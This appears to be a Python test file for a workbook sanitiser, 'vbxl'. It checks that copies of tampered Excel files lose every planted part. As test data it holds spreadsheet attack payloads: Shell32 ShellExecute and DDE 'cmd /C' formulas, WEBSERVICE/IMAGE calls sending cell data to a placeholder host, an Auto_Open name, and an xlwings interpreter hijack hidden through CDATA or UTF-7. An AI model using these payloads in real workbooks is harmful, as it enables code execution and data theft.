"""`vbxl excel` of workbooks that were made to harm: not one part of them arrives in the copy.

The copy of a workbook that somebody put something into is byte for byte the copy of the workbook without it, or there
is none. Most of these passed a list of what is forbidden, which is why there is none any more.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import cache
from html import escape
from pathlib import Path

import pytest

from exhaustive import mark_all_but_first
from move_factory import messy_moves
from sheet_factory import team_view
from vbxl.books import movesheet
from vbxl.books.intake import take
from vbxl.books.movesheet.tools import Host, Tools
from vbxl.hosts.windows.macros import make_modules
from vbxl.hosts.windows.prepare import prepare
from vbxl.rounds.errors import UnusableError
from vbxl.xlsx.guard import guard
from windows_workbook import needs, written

Parts = dict[str, bytes]
TYPES, BOOK, LINKS, SHEET = "[Content_Types].xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "sheet1.xml"
SHEET_PART = f"xl/worksheets/{SHEET}"
BUTTONS = "xl/drawings/vmlDrawing1.vml"
# What a planted formula or macro is known by in any part of the copy.
PLANTED = b"Planted"
CALL = escape('CALL("Shell32","ShellExecuteA","JJCCCCJ",0,"open","Planted","","",1)')
FORMULAS = (
    CALL, 'RunPython("Planted")', 'xlwings.RunPython("Planted")', "cmd|' /C Planted'!A0", 'HYPERLINK("Planted","x")',
    '_xlfn.IMAGE("http://Planted/x?"&amp;A1)', "_xlfn._xlws.PY(0,1,Planted)", 'CUBEVALUE("Planted","y")',
    'LET(f,RunPython,f("Planted"))', 'VB_WAGE(RTD("Planted",,"b"),1)', 'WEBSERVICE("http://Planted")',
)  # fmt: skip
HIDDEN = (
    ("<![CDATA[<!--]]>", "<![CDATA[-->]]>"),
    ("<![CDATA[<?]]>", "<![CDATA[?>]]>"),
)


@pytest.fixture(autouse=True)
def _needs_xlwings() -> None:
    needs("xlwings", "pyopenvba")


@cache
def clean() -> bytes:
    seen = team_view()
    return movesheet.build(seen, messy_moves(seen, 1), tools=Tools(Host.WINDOWS, make_modules()))


@pytest.fixture(scope="module")
def wanted(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The copy of the workbook that nobody put anything into."""
    return prepare(written(tmp_path_factory.mktemp("clean") / "sheet.xlsm", clean())).copy.read_bytes()


def parts() -> Parts:
    with zipfile.ZipFile(io.BytesIO(clean())) as package:
        return {name: package.read(name) for name in package.namelist()}


def packed(of: Parts) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in of.items():
            package.writestr(name, data)
    return made.getvalue()


def changed(part: str, before: str, after: str, of: Parts | None = None) -> Parts:
    """The parts with a text in one of them changed."""
    found = of or parts()
    assert before.encode() in found[part], (part, before)
    return found | {part: found[part].replace(before.encode(), after.encode())}


def with_cells(cells: str) -> Parts:
    return changed(SHEET_PART, "</sheetData>", f'<row r="399">{cells}</row></sheetData>')


def formula_cells() -> str:
    plain = [
        f'<c r="{letter}399"><f>{one}</f><v>0</v></c>' for letter, one in zip("ABCDEFGHIJK", FORMULAS, strict=True)
    ]
    shown = f'<c r="L399" t="str"><f>"<![CDATA[<v>]]>"&amp;{CALL}&amp;"<![CDATA[</v>]]>"</f><v>0</v></c>'
    return "".join(plain) + shown


def between(before: str, after: str) -> str:
    texts = (
        f'<c r="{letter}399" t="inlineStr"><is><t>{one}</t></is></c>' for letter, one in (("A", before), ("C", after))
    )
    first, last = texts
    return f'{first}<c r="B399"><f>{CALL}</f><v>0</v></c>{last}'


def moved(place: str) -> Parts:
    """A sheet with a formula of somebody's at another place in the package."""
    of = with_cells(f'<c r="A399"><f>{CALL}</f><v>0</v></c>')
    of = changed(TYPES, f"/{SHEET_PART}", f"/{place}", of)
    of = changed(LINKS, f"worksheets/{SHEET}", f"/{place}", of)
    of[place] = of.pop(SHEET_PART)
    return of


def with_sheet(name: str) -> Parts:
    """One more sheet: from one called xlwings.conf xlwings' module takes its settings, Python's path among them."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    of = changed(BOOK, "</sheets>", f'<sheet name="{name}" sheetId="99" r:id="rId99"/></sheets>')
    of = changed(
        TYPES, "</Types>", f'<Override PartName="/xl/worksheets/sheet99.xml" ContentType="{kind}"/></Types>', of
    )
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    link = f'<Relationship Id="rId99" Type="{office}/worksheet" Target="worksheets/sheet99.xml"/>'
    of = changed(LINKS, "</Relationships>", f"{link}</Relationships>", of)
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    cells = "".join(
        f'<c r="{cell}" t="inlineStr"><is><t>{text}</t></is></c>'
        for cell, text in (("A1", "INTERPRETER_WIN"), ("B1", "Planted.exe"))
    )
    of["xl/worksheets/sheet99.xml"] = (
        f'<worksheet xmlns="{main}"><sheetData><row r="1">{cells}</row></sheetData></worksheet>'.encode()
    )
    return of


def drawing_elsewhere() -> Parts:
    of = changed(BUTTONS, "[0]!VbxlClear", "'RunPython &quot;Planted&quot;'")
    of = {
        name: data.replace(b"../drawings/vmlDrawing1.vml", b"../media/x.vml") if name.endswith(".rels") else data
        for name, data in of.items()
    }
    of["xl/media/x.vml"] = of.pop(BUTTONS)
    return of


def in_utf7() -> Parts:
    text = parts()[BUTTONS].decode().replace("[0]!VbxlClear", "[0]!KillPy")
    return parts() | {BUTTONS: ('<?xml version="1.0" encoding = "utf-7"?>' + text).encode("utf-7")}


def named(name: str, formula: str) -> Parts:
    return changed(BOOK, "</definedNames>", f'<definedName name="{name}">{formula}</definedName></definedNames>')


def added(part: str) -> Parts:
    return parts() | {part: b"<Planted/>"}


TAKEN: dict[str, Callable[[], Parts]] = {
    "formulas": lambda: with_cells(formula_cells()),
    "a comment in a text": lambda: with_cells(between(*HIDDEN[0])),
    "an instruction in a text": lambda: with_cells(between(*HIDDEN[1])),
    "the settings of xlwings": lambda: with_sheet("xlwings.conf"),
    "a sheet called as a module": lambda: with_sheet("Planted.py"),
    "Self-test renamed": lambda: {
        name: data.replace(b"Self-test", b"xlwings.conf") for name, data in parts().items()
    },
    "a button with another macro": lambda: changed(BUTTONS, "[0]!VbxlClear", "'RunPython &quot;Planted&quot;'"),
    "a drawing elsewhere": drawing_elsewhere,
    "a drawing in UTF-7": in_utf7,
    "a name of old macros": lambda: named("Planted", 'FILES("C:\\*")'),
    "a name that runs": lambda: named("_xlnm.Auto_Open", "Start!$A$1"),
    "a link to another workbook": lambda: added("xl/externalLinks/externalLink1.xml"),
    "a sheet of old macros": lambda: added("xl/macrosheets/sheet1.xml"),
    "a control": lambda: added("xl/activeX/activeX1.bin"),
    "another ribbon": lambda: added("customUI/customUI14.xml"),
    "another project": lambda: parts() | {"xl/vbaProject.bin": b"Planted"},
}  # fmt: skip


# One of each way by default: cells, sheets, buttons, names, parts and the project; the others are exhaustive.
BY_DEFAULT = {"formulas", "a name that runs", "another project"}


@pytest.mark.parametrize(
    "what", [pytest.param(what, marks=[] if what in BY_DEFAULT else [pytest.mark.exhaustive]) for what in TAKEN]
)
def test_nothing_of_what_was_planted_arrives(what: str, wanted: bytes, tmp_path: Path) -> None:
    data = packed(TAKEN[what]())
    assert data != clean()
    copy = prepare(written(tmp_path / "sheet.xlsm", data)).copy.read_bytes()
    assert copy == wanted


PLACES = (
    "xl/media/s.xml", "docProps/s.xml", "customXml/s.xml", "xl/theme/s.xml", "xl/persons/s.xml", "xl/commentsX.xml",
    "xl/vbaProject9.bin", "xl/printerSettings/s.xml",
)  # fmt: skip


@pytest.mark.parametrize("place", mark_all_but_first(PLACES))
def test_a_sheet_at_an_odd_place_is_read_as_any_or_refused(place: str, wanted: bytes, tmp_path: Path) -> None:
    path = written(tmp_path / "sheet.xlsm", packed(moved(place)))
    try:
        assert prepare(path).copy.read_bytes() == wanted
    except UnusableError:
        assert list(tmp_path.iterdir()) == [path]


def texts(data: bytes) -> Iterator[bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        yield from (package.read(name) for name in package.namelist())


def test_the_copy_has_the_sheets_of_a_new_one_and_only_our_macros_on_its_buttons(wanted: bytes) -> None:
    form = take(clean(), "").form
    assert form is not None
    assert form.view is not None
    modules = make_modules()
    assert guard(wanted).sheets == guard(movesheet.build(form.view, None, tools=Tools(Host.WINDOWS, modules))).sheets
    macros = set(re.findall(rb"<x:FmlaMacro>(.*?)</x:FmlaMacro>", b"".join(texts(wanted))))
    assert macros == {f"[0]!{name}".encode() for name in re.findall(r"Sub (Vbxl\w+)\(\)", modules["VbxlButtons"])} - {
        b"[0]!VbxlWhy"
    }
    assert not any(PLANTED in text for text in texts(wanted))


def test_a_name_that_looks_like_a_formula_is_a_text_in_the_copy(tmp_path: Path) -> None:
    typed = "=cmd|' /C Planted'!A0"
    seen = replace(team_view(), team_name=typed)
    copy = prepare(written(tmp_path / "sheet.xlsx", movesheet.build(seen, messy_moves(seen, 1)))).copy.read_bytes()
    with zipfile.ZipFile(io.BytesIO(copy)) as package:
        sheets = [package.read(name) for name in package.namelist() if name.startswith("xl/worksheets/sheet")]
    assert any(f"<is><t>{escape(typed, quote=False)}</t></is>".encode() in sheet for sheet in sheets)
    formulas = [one for sheet in sheets for one in re.findall(rb"<f(?: [^>]*[^/])?>([^<]*)</f>", sheet)]
    assert formulas
    assert not any(PLANTED in one for one in formulas)
